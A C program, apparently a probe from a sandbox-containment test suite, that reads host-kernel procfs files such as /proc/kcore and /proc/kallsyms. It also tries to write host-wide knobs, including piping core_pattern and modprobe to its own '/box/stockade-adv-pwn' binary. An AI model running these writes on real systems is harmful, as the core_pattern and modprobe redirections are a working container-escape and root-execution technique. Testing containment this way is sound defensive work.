/* INF-04: read the procfs files that disclose the host kernel, write the knobs that act host-wide. */
#include "adv.h"
#include <dirent.h>

static void size_of(const char *path) {
    char buf[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        SAY("read_%s=%s\n", path + 6, ename(errno));
        return;
    }
    long total = 0;
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0 && total < (1 << 20)) total += n;
    close(fd);
    SAY("read_%s=%ld\n", path + 6, n < 0 ? -1L : total);
}

static void entries(const char *path) {
    DIR *d = opendir(path);
    int n = 0;
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)))
            if (e->d_name[0] != '.') n++;
        closedir(d);
    }
    SAY("list_%s=%d\n", path + 6, d ? n : -1);
}

int main(void) {
    const char *files[] = {"/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/key-users", "/proc/timer_list",
                           "/proc/sched_debug", "/proc/slabinfo", "/proc/vmallocinfo", "/proc/kpagecount",
                           "/proc/kpageflags", "/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) size_of(files[i]);
    const char *dirs[] = {"/proc/sysvipc", "/proc/acpi", "/proc/scsi", "/proc/driver", "/proc/irq", "/proc/bus",
                          "/proc/tty", "/proc/fs"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) entries(dirs[i]);
    const char *knobs[] = {"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                           "/proc/sys/vm/drop_caches", "/proc/sys/kernel/modprobe", "/proc/sys/fs/file-max",
                           "/proc/sys/net/ipv4/ip_forward", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"};
    for (size_t i = 0; i < sizeof knobs / sizeof knobs[0]; i++) {
        char label[128];
        snprintf(label, sizeof label, "write_%s", knobs[i] + 6);
        int fd = open(knobs[i], O_WRONLY);
        if (fd < 0) {
            SAY("%s=%s\n", label, ename(errno));
            continue;
        }
        const char *v = strstr(knobs[i], "oom_score_adj") ? "-1000" : "|/box/stockade-adv-pwn";
        TRY(label, write(fd, v, strlen(v)));
        close(fd);
    }
    return 0;
}
